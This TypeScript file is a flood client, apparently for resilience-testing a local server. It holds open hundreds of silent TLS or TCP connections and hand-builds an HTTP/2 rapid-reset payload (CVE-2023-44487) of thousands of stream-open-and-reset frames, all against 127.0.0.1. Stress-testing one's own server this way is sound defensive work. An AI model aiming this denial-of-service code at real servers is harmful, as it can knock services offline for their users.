/**
 * A flood of clients without a certificate, for `hop --beside`. Keeps so many connections open at a time: one that is cut is replaced
 * at once. Prints `ready` when each place was taken once; prints its totals as a line of JSON and ends when its standard input ends.
 */
import { connect as connectTcp, type NetConnectOpts, type Socket } from 'node:net';
import { connect, type ConnectionOptions } from 'node:tls';

/** What the clients of a flood do once they are connected; none of them ever closes its side. */
export type FloodKind = 'silent-tls' | 'silent-tcp' | 'rapid-reset';

export interface FloodOptions {
  readonly kind: FloodKind;
  /** Port on this machine. */
  readonly port: number;
  readonly serverName: string;
}

/** What a flood did from its first connection to its end. */
export interface FloodTotals {
  readonly seconds: number;
  /** Connections that came about, with their handshake where there is one. */
  readonly connected: number;
  /** Connections that the server ended. */
  readonly cut: number;
  /** CPU time of the flood itself, seconds: it competes for the same cores. */
  readonly cpuSeconds: number;
}

const CONNECTIONS: Readonly<Record<FloodKind, number>> = { 'silent-tls': 512, 'silent-tcp': 1_000, 'rapid-reset': 64 };
/** Calls that one connection opens and gives up, all in one write. */
const RESETS = 3_000;
/** An address of its own, as another pod has: 127.0.0.1 is the honest client's. */
const ADDRESS = { host: '127.0.0.1', localAddress: '127.0.0.2' };

const { kind, port, serverName } = JSON.parse(process.argv[2] ?? '{}') as FloodOptions;
const bytes = kind === 'rapid-reset' ? rapidReset(RESETS) : undefined;
const started = performance.now();
let [connected, cut, ended] = [0, 0, false];
const open = new Set<Socket>();

function peer(first: () => void): void {
  if (ended) return;
  const socket = dial();
  open.add(socket);
  socket.on('error', () => undefined).resume();
  socket.once(kind === 'silent-tcp' ? 'connect' : 'secureConnect', () => {
    connected += 1;
    if (bytes) socket.write(bytes);
    first();
  });
  // With `allowHalfOpen` an end that the server sends does not close this side: the place is taken anew all the same.
  socket.once('end', () => socket.destroy());
  socket.once('close', () => {
    cut += 1;
    open.delete(socket);
    first();
    setImmediate(() => peer(first));
  });
}

function dial(): Socket {
  if (kind === 'silent-tcp') {
    const options: NetConnectOpts = { ...ADDRESS, port, allowHalfOpen: true };
    return connectTcp(options);
  }
  const options: ConnectionOptions & { readonly allowHalfOpen: boolean; readonly localAddress: string } = {
    ...ADDRESS,
    port,
    servername: serverName,
    // It has no business to be sure of whom it floods.
    rejectUnauthorized: false,
    ALPNProtocols: ['h2'],
    allowHalfOpen: true,
  };
  return connect(options);
}

/** HTTP/2 by hand: so many calls, each with its reset (RFC 9113 §6.2, §6.4; CVE-2023-44487). */
function rapidReset(calls: number): Buffer {
  const frame = (type: number, flags: number, stream: number, payload: readonly number[]): Buffer => {
    const bytes = Buffer.alloc(9 + payload.length);
    bytes.writeUIntBE(payload.length, 0, 3);
    bytes.set([type, flags], 3);
    bytes.writeUInt32BE(stream, 5);
    bytes.set(payload, 9);
    return bytes;
  };
  // :method POST, :scheme https, :path / of the static table (RFC 7541, appendix A).
  const block = [0x83, 0x87, 0x84];
  const streams = Array.from({ length: calls }, (_, i) => 2 * i + 1);
  return Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
    frame(4, 0, 0, []),
    ...streams.flatMap((id) => [frame(1, 0x4, id, block), frame(3, 0, id, [0, 0, 0, 8])]),
  ]);
}

/** Takes one place; resolves when it was connected or cut for the first time. */
const place = (): Promise<void> => new Promise((resolve) => peer(resolve));

process.stdin.resume().once('end', () => {
  ended = true;
  const { user, system } = process.cpuUsage();
  const seconds = (performance.now() - started) / 1_000;
  const totals: FloodTotals = { seconds, connected, cut, cpuSeconds: (user + system) / 1e6 };
  process.stdout.write(`${JSON.stringify(totals)}\n`, () => process.exit(0));
});
await Promise.all(Array.from({ length: CONNECTIONS[kind] }, place));
console.log('ready');
